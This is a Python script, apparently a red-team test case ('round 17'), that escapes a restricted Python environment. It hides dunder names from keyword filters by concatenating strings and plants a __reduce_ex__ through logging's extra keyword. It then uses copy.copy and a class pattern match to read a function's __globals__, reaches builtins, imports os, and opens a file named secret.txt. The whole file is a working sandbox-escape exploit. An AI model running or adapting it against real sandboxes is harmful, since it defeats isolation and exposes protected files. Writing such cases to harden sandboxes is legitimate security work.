# family: red team, round 17 (library protocols: wraps' partial, logging extra, singledispatch annotations)
# Needs "logging". Variant of rt_001: the `extra` keyword arrives through **options (a dict built in the
# tool), Logger.log(level, msg, **options) -> _log copies extra's keys into the LogRecord's __dict__; a Filter
# callable gets the record. A run-time "__reduce_ex__" on the record makes copy.copy() setattr() run-time names on a class
# with written __match_args__; a class pattern then reads __globals__ of a function -> builtins -> os.
import abc
import copy
import logging


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(protocol):
        return (lambda: target, (), (None, names))

    caught = []

    def keep(record):
        caught.append(record)
        return False

    logger = logging.getLogger("rt")
    logger.addFilter(keep)
    options = {"ext" + "ra": {_d("reduce_ex"): reducer}}
    logger.log(logging.WARNING, "m", **options)
    logger.removeFilter(keep)
    copy.copy(caught[0])


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): lambda sub: True, _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return repr(osmod), sorted(g)[:5], b["open"]("/tmp/r17/work/secret.txt").read().strip()


print(run())
